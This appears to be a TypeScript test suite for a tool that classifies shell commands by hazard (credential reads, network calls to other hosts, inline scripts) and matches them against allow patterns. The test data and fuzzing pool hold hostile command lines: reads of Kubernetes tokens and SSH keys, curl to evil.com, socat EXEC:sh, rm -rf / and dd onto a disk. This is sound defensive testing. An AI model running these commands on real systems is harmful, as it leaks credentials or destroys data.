  { argv: ['cat', '/root/.kube/config'], hazards: ['credentialRead'] },
  { argv: ['cat', '/home/app/.ssh/id_ed25519'], hazards: ['credentialRead'] },
  { argv: ['cat', '/proc/self/environ'], hazards: ['credentialRead'] },
  { argv: ['cat', '/proc/1/root/etc/passwd'], hazards: ['credentialRead'] },
  { argv: ['cat', '/proc/self/task/1/environ'], hazards: ['credentialRead'] },
  { argv: ['cat', '/proc/self/status'], hazards: ['credentialRead'] },
  { argv: ['cat', '/proc/cpuinfo'], hazards: [] },
  { argv: ['cat', '/etc/kubernetes/admin.conf'], hazards: ['credentialRead'] },
  { argv: ['cat', '/var/lib/kubelet/pki/kubelet.key'], hazards: ['credentialRead'] },
  { argv: ['cat', '//var//run/./secrets/x'], hazards: ['credentialRead'] },
  { argv: ['cat', '/var/run/secrets'], hazards: ['credentialRead'] },
  { argv: ['cat', '/etc/passwd'], hazards: [] },
  { argv: ['cat', '/etc/shadowX'], hazards: [] },
  { argv: ['cat', '/..'], hazards: ['credentialRead'] },
  { argv: ['ls', '/var/run'], hazards: [] },
  { argv: ['grep', '-r', 'token', '/var/run'], hazards: ['credentialRead'] },
  { argv: ['tar', 'czf', '/tmp/x.tgz', '/'], hazards: ['credentialRead'] },
  { argv: ['tar', '-C', '/var/run', '-cf', '-', '.'], hazards: ['credentialRead'] },
  { argv: ['base64', '/var/run/secrets/kubernetes.io/serviceaccount/token'], hazards: ['credentialRead'] },
  { argv: ['sh', '-c', 'cat /var/run/secrets/kubernetes.io/serviceaccount/token'], hazards: ['credentialRead', 'inlineScript'] },
  { argv: ['kubectl', '--kubeconfig=/root/.kube/config', 'get', 'pods'], hazards: ['credentialRead'] },
  { argv: ['docker', 'run', '-v', '/var/run/secrets:/x', 'img'], hazards: ['credentialRead'] },
  { argv: ['/var/run/secrets/kubernetes.io/serviceaccount/token'], hazards: ['credentialRead'] },
  { argv: ['env'], ctx: { workingDir: '/var/run/secrets' }, hazards: [] },

  { argv: ['ls'], ctx: { interactive: true }, hazards: ['interactive'] },
  { argv: ['sh'], ctx: { interactive: true }, hazards: ['interactive', 'shell'] },
  { argv: ['', 'x'], program: '', hazards: [], noMatch: ['* ...'] },
];

describe('exec command table', () => {
  for (const c of CASES) {
    const ctx = { ...CTX, ...c.ctx };
    it(`${JSON.stringify(c.argv)}${c.ctx ? ` ${JSON.stringify(c.ctx)}` : ''}`, () => {
      const eff = effectiveCommand(c.argv);
      expect(eff.argv).toEqual(c.argv);
      if (c.program !== undefined) expect(eff.program).toBe(c.program);
      if (c.path !== undefined) expect(eff.programPath).toBe(c.path);
      if (c.wrappers !== undefined) expect(eff.wrappers).toEqual(c.wrappers);
      if (c.env !== undefined) expect({ ...eff.env }).toEqual(c.env);
      const hazards = execHazards(c.argv, ctx);
      for (const h of hazards) {
        expect(h.message.length).toBeGreaterThan(0);
        if (h.arg !== undefined) expect(h.arg >= 0 && h.arg < c.argv.length).toBe(true);
      }
      expect(classes(c.argv, ctx)).toEqual([...new Set(c.hazards)].sort());
      for (const p of c.match ?? []) expect([p, pattern(p).matches(eff)]).toEqual([p, true]);
      for (const p of c.noMatch ?? []) expect([p, pattern(p).matches(eff)]).toEqual([p, false]);
    });
  }

  it('names the program and the argument in hazard messages', () => {
    const [h] = execHazards(['curl', 'http://localhost@evil.com/'], CTX);
    expect(h).toMatchObject({ class: 'networkElsewhere', arg: 1 });
    expect(h!.message).toContain('curl');
    expect(h!.message).toContain('evil.com');
    const [cred] = execHazards(['cat', '/app/config/../../var/run/secrets/kubernetes.io/serviceaccount/token'], CTX);
    expect(cred).toMatchObject({ class: 'credentialRead', arg: 1 });
    expect(cred!.message).toContain('/var/run/secrets/kubernetes.io/serviceaccount/token');
    const [inline] = execHazards(['env', 'FOO=1', 'sh', '-c', 'id'], CTX);
    expect(inline).toMatchObject({ class: 'inlineScript', arg: 4 });
    expect(inline!.message).toContain('"id"');
    // an inner command split out of one word points at that word
    expect(execHazards(['socat', '-', 'EXEC:sh -c id'], CTX).map((x) => x.arg)).toEqual([2, 2]);
    expect(execHazards(['env', 'LD_PRELOAD=/x.so', 'ls'], CTX)[0]).toMatchObject({ class: 'commandRunner', arg: 1 });
  });
});

describe('command patterns', () => {
  const cmd = (argv: string[]) => effectiveCommand(argv);
  const table: [string, string[], boolean][] = [
    ['cat /app/**', ['cat', '/app'], true],
    ['cat /app/**', ['cat', '/app/a/b/c'], true],
    ['cat /app/**', ['cat', '/app/../etc/passwd'], false],
    ['cat /app/**/x', ['cat', '/app/x'], true],
    ['cat /app/**/x', ['cat', '/app/a/b/x'], true],
    ['cat /app/**/x', ['cat', '/app/a/b/y'], false],
    ['cat /app/*.yaml', ['cat', '/app/a.yaml'], true],
    ['cat /app/*.yaml', ['cat', '/app/sub/a.yaml'], false],
    ['cat ./*', ['cat', './x'], true],
    ['cat ./*', ['cat', './..'], false],
    ['cat ./*', ['cat', '../x'], false],
    ['cat *', ['cat', '..'], false],
    ['cat *', ['cat', '.'], false],
    ['cat *', ['cat', '.env'], true],
    ['cat *', ['cat', '/etc/shadow'], false],
    ['cat *', ['cat', 'a/b'], false],
    ['cat *', ['cat', ''], true],
    ['cat ..', ['cat', '..'], true],
    ['cat **', ['cat', 'a/b'], true],
    ['cat **', ['cat', '../x'], false],
    ['cat **', ['cat', '/etc/x'], false],
    ['cat /**', ['cat', '/etc/x'], true],
    ['cat /**', ['cat', '/'], true],
    ['cat /app//x/', ['cat', '/app/x'], true],
    ['cat /app/config/*', ['cat', '/app/config/'], false],
    ['ls /', ['ls', '//'], true],
    ['ls /', ['ls', '/..'], true],
    ['python* -m pytest ...', ['python3.11', '-m', 'pytest', '-x'], true],
    ['/usr/bin/python3 ...', ['/usr/bin/python3'], true],
    ['/usr/bin/python3 ...', ['/usr/bin/../bin/python3'], true],
    ['/usr/bin/python3 ...', ['python3'], false],
    ['/usr/*/python3 ...', ['/usr/bin/python3'], true],
    ['/usr/*/python3 ...', ['/usr/bin/../../tmp/python3'], false],
    ['python3 ...', ['/usr/bin/python3'], true],
    ['e?ho x', ['echo', 'x'], true],
    ['echo ?', ['echo', '😀'], true],
    ['echo ??', ['echo', '😀'], false],
    ['echo [ab]c', ['echo', 'ac'], true],
    ['echo [ab]c', ['echo', 'cc'], false],
    ['echo [!a]c', ['echo', 'bc'], true],
    ['echo [!a]c', ['echo', 'ac'], false],
    ['echo [a-c]', ['echo', 'b'], true],
    ['echo []]', ['echo', ']'], true],
    ["echo '*'", ['echo', '*'], true],
    ["echo '*'", ['echo', 'x'], false],
    ['echo \\*', ['echo', '*'], true],
    ['echo "a\\"b"', ['echo', 'a"b'], true],
    ["echo '...'", ['echo', '...'], true],
    ["echo '...'", ['echo', 'a', 'b'], false],
    ["echo ''", ['echo', ''], true],
    ['echo ...', ['echo'], true],
    ['echo a ...', ['echo'], false],
    ['cat *', ['env', 'X=1', 'cat', 'f'], false],
    ['env X=1 cat *', ['env', 'X=1', 'cat', 'f'], true],
    ['* ...', ['ls', '-l'], true],
    ['*', ['ls', '-l'], false],
    ['*', ['env', 'ls'], false],
    ['* ...', [], false],
    ['sh -c id', ['/bin/sh', '-c', 'id'], true],
    ['SH -c id', ['sh', '-c', 'id'], false],
    ['curl -sf http://localhost:*/healthz', ['curl', '-sf', 'http://localhost:8080/healthz/../x'], false],
    ['echo *', ['echo', 'a'.repeat(20000)], false],
    ['echo *a*a*a*b', ['echo', 'a'.repeat(10000)], false],
    // examples from docs/exec-commands.md
    ['cat /app/**', ['cat', '/apps/x'], false],
    ['* ...', ['sudo', 'ls'], false],
    ['/bin/sh -c *', ['/bin/../bin/sh', '-c', 'x'], true],
    ['e* ...', ['env', '-S', 'sh -c id'], true],
    ['sh ...', ['env', '-S', 'sh -c id'], false],
    ['ls -la /', ['ls', '-la', '/', 'x'], false],
    ['x --file=/app/*', ['x', '--file=/app/x'], true],
    ['x --file=/app/*', ['x', '--file=/app/../etc/shadow'], false],
    // the caveat: "*" matches ":" and "@", so the pattern allows this and networkElsewhere must catch it
    ['curl -sf http://localhost:*/healthz', ['curl', '-sf', 'http://localhost:80@evil.com/healthz'], true],
  ];
  for (const [src, argv, want] of table) {
    it(`${src} ${want ? 'matches' : 'does not match'} ${JSON.stringify(argv).slice(0, 80)}`, () => {
      expect(pattern(src).matches(cmd(argv))).toBe(want);
    });
  }

  it('keeps its source', () => {
    expect(pattern("echo 'hello world'").source).toBe("echo 'hello world'");
  });

  const invalid: [unknown, RegExp][] = [
    ['', /empty pattern/],
    ['   \t ', /empty pattern/],
    ["echo 'unbalanced", /unbalanced single quote/],
    ['echo "unbalanced', /unbalanced double quote/],
    ['echo x\\', /trailing backslash/],
    ['ls ... -l', /"\.\.\." must be the last word/],
    ['...', /first word must name the program/],
    ['... ls', /first word must name the program/],
    ['echo a**b', /whole path segment/],
    ['echo ***', /whole path segment/],
    ['cat /app/../x', /never matches/],
    ['cat /app/./x', /never matches/],
    ['echo [abc', /unterminated "\["/],
    ['echo [[:alpha:]]', /not supported/],
    ['echo [z-a]', /bad range/],
    ["'' x", /program name is empty/],
    [`x ${'/a'.repeat(70)}`, /path segments/],
    ['x'.repeat(5000), /longer than/],
    [Array(300).fill('x').join(' '), /more than 256 words/],
    [42, /must be a string/],
  ];
  for (const [src, re] of invalid) {
    it(`rejects ${JSON.stringify(src).slice(0, 60)}`, () => {
      const p = compileCommandPattern(src as string);
      expect('error' in p && p.error).toMatch(re);
    });
  }
});

describe('bounded work', () => {
  it('handles 10,000 arguments and a 1 MB argument quickly', () => {
    const t = Date.now();
    const many = ['cat', ...Array.from({ length: 10000 }, (_, i) => `/var/run/secrets/${i}`)];
    expect(execHazards(many, CTX)).toHaveLength(10000);
    const wrapped = [...Array<string>(10000).fill('env'), 'sh', '-c', 'x'];
    expect(effectiveCommand(wrapped).wrappers).toHaveLength(10000);
    expect(classes(wrapped)).toEqual(['inlineScript']);
    expect(classes(Array<string>(10000).fill('strace'))).toEqual(['commandRunner']);
    for (const big of ['/'.repeat(1 << 20), 'a/'.repeat(1 << 19), ':/'.repeat(1 << 19), 'run/secrets/'.repeat(1 << 16), '😀\0'.repeat(1 << 18)]) {
      expect(() => execHazards(['cat', big], { credentialPaths: ['/x'], interactive: false })).not.toThrow();
      expect(pattern('cat /**').matches(effectiveCommand(['cat', big]))).toBe(false);
    }
    expect(classes(['sed', 's/a/b/;'.repeat(1 << 17)])).toEqual([]);
    expect(classes(['curl', `http://${'a@'.repeat(1 << 19)}`])).toEqual(['networkElsewhere']);
    expect(Date.now() - t).toBeLessThan(10000);
  });

  it('never throws on values that are not strings', () => {
    const junk = [null, 1, {}, Object.create(null), Symbol('x'), ['sh']] as unknown as string[];
    expect(() => execHazards(junk, CTX)).not.toThrow();
    expect(() => execHazards(undefined as unknown as string[], undefined as unknown as ExecContext)).not.toThrow();
    expect(effectiveCommand(junk).programPath).toBe('');
    expect(() => pattern('x ...').matches({} as never)).not.toThrow();
  });
});

// ---------------------------------------------------------------------------------------- generative

const POOL = [
  'sh', 'bash', '/bin/sh', 'busybox', 'env', 'sudo', 'timeout', '5', '-c', '-ec', '--command', '-i', '-u', 'root', 'FOO=1', 'LD_PRELOAD=/x',
  'curl', 'http://evil.com', 'http://localhost/', 'localhost:80', '-d', '@/etc/shadow', 'cat', '/etc/shadow', '/var/run/secrets/x', '../x',
  'run/secrets/x', 'xargs', 'find', '-exec', ';', '{}', '+', 'rm', '-rf', '/', 'python3', 'node', '-e', 'awk', 'sed', 's/x/y/e', 'tar', 'cf',
  '-', 'nc', '-l', 'socat', 'EXEC:sh', 'ssh', 'git', 'clone', 'ip', 'netns', 'exec', 'nsenter', 'chroot', 'watch', 'strace', 'su', '--',
  '', '😀', 'ſh', '\u0000', 'a\u0000b', 'İ', '\ud800', ' ', 'sh -c id', '~/.ssh/id', '$HOME/.kube/config', '[::1]', 'http://[::1]:80/', '*',
  '**', '...', '-x', '--help', '--version', 'nice', '-n', '10', '-5', 'stdbuf', '-oL', 'chrt', 'taskset', '0x1', 'time', '-p', 'command',
  'doas', 'pkexec', 'toybox', 'ionice', 'setsid', 'nohup', 'apt-get', 'install', 'cp', '/etc/x', 'tee', 'dd', 'of=/dev/sda', 'kill', 'pwsh',
  '-Command', 'perl', '-ne', 'mkfs.ext4', 'grep', '-r', '/var', 'x'.repeat(300), 'flock', 'script', 'powershell', 'cmd', '/c', 'vim',
];
/** Wrapper prefixes that parse, each ending where a command starts. */
const WRAPPER_FORMS = [
  ['env'], ['env', '-i'], ['env', 'FOO=1'], ['env', '-u', 'X'], ['/usr/bin/env', '--'], ['sudo'], ['sudo', '-u', 'root'], ['sudo', '-n', '-E'],
  ['nice'], ['nice', '-n', '5'], ['nice', '-5'], ['nohup'], ['timeout', '5'], ['timeout', '-s', 'KILL', '5s'], ['timeout', '-k', '1', '2.5m'],
  ['stdbuf', '-oL'], ['stdbuf', '-oL', '-eL'], ['ionice', '-c', '3'], ['ionice', '-c2', '-n7'], ['setsid'], ['setsid', '-w'], ['time'],
  ['time', '-p'], ['command'], ['command', '-p'], ['exec'], ['exec', '-a', 'x'], ['chrt', '5'], ['chrt', '-o', '0'], ['taskset', '0x1'],
  ['taskset', '-c', '0-3'], ['busybox'], ['toybox'], ['doas'], ['doas', '-u', 'app'], ['pkexec', '--user', 'app'],
];
const SHELLS = ['sh', 'bash', '/bin/dash', 'zsh', 'ksh', 'ash', 'mksh', 'yash', '/usr/bin/fish', 'csh', 'tcsh'];
const C_FLAGS = ['-c', '-ec', '-xc', '-lc', '-cx', '--command'];

describe('generative', () => {
  const rand = mulberry32(20260601);
  const pick = <T>(xs: readonly T[]): T => xs[Math.floor(rand() * xs.length)]!;
  const randomWord = (): string => {
    if (rand() < 0.85) return pick(POOL);
    return Array.from({ length: Math.floor(rand() * 12) }, () => String.fromCodePoint(Math.floor(rand() * (rand() < 0.7 ? 128 : 0x1ffff)))).join('');
  };
  const randomArgv = (max = 12): string[] => Array.from({ length: Math.floor(rand() * max) }, randomWord);
  const prefix = (): string[] => Array.from({ length: Math.floor(rand() * 3) }, () => pick(WRAPPER_FORMS)).flat();
  const ctxs: ExecContext[] = [CTX, { credentialPaths: ['/etc/db-creds'], workingDir: '/app', interactive: true }, { credentialPaths: ['/'], interactive: false }];
  const superset = (big: HazardClass[], small: HazardClass[]): boolean => small.every((c) => big.includes(c));

  it('5,000 random argvs never throw, and their hazards and effective commands are well formed', () => {
    for (let n = 0; n < 5000; n++) {
      const argv = randomArgv();
      const ctx = pick(ctxs);
      const hazards = execHazards(argv, ctx);
      for (const h of hazards) {
        expect(CLASSES).toContain(h.class);
        expect(typeof h.message === 'string' && h.message.length > 0).toBe(true);
        if (h.arg !== undefined) expect(Number.isInteger(h.arg) && h.arg >= 0 && h.arg < argv.length).toBe(true);
      }
      if (ctx.interactive) expect(hazards.some((h) => h.class === 'interactive')).toBe(true);
      const eff = effectiveCommand(argv);
      expect(eff.argv).toBe(argv);
      expect(eff.wrappers.length).toBeLessThanOrEqual(argv.length);
      if (argv.length) {
        const at = argv.length - eff.args.length - 1;
        expect(at).toBeGreaterThanOrEqual(0);
        expect(eff.programPath).toBe(argv[at]);
        expect(eff.args).toEqual(argv.slice(at + 1));
        expect(eff.program).toBe(eff.programPath.slice(eff.programPath.lastIndexOf('/') + 1));
      } else expect(hazards.some((h) => h.class === 'shell')).toBe(true);
    }
  });

  it('a shell with -c after only wrappers always yields inlineScript', () => {
    for (let n = 0; n < 2000; n++) {
      const argv = [...prefix(), pick(SHELLS), pick(C_FLAGS), ...randomArgv(4)];
      expect([argv, classes(argv)]).toEqual([argv, expect.arrayContaining(['inlineScript'])]);
    }
  });

  it('adding a wrapper never removes a hazard, nor changes the program', () => {
    for (let n = 0; n < 3000; n++) {
      // the empty argv is its own case (a shell hazard for the request, not for a command)
      const x = [randomWord(), ...randomArgv(7)];
      const ctx = pick(ctxs);
      const w = pick(WRAPPER_FORMS);
      const before = classes(x, ctx);
      const after = classes([...w, ...x], ctx);
      if (!superset(after, before)) throw new Error(`${JSON.stringify([...w, ...x])} has ${after} but ${JSON.stringify(x)} has ${before}`);
      const first = x[0];
      if (first !== undefined && !first.startsWith('-') && !first.includes('=')) expect(effectiveCommand([...w, ...x]).program).toBe(effectiveCommand(x).program);
    }
  });

  it('random patterns compile or fail with an error, and never throw when matching', () => {
    const chars = ['a', '*', '?', '[', ']', '!', '-', "'", '"', '\\', '/', '.', ' ', '😀', '**', '...', 'sh', 'env'];
    for (let n = 0; n < 3000; n++) {
      const src = Array.from({ length: Math.floor(rand() * 16) }, () => pick(chars)).join('');
      const p = compileCommandPattern(src);
      if ('error' in p) {
        expect(p.error.length).toBeGreaterThan(0);
        continue;
      }
      for (let k = 0; k < 3; k++) expect(typeof p.matches(effectiveCommand(randomArgv(6)))).toBe('boolean');
    }
  });
});
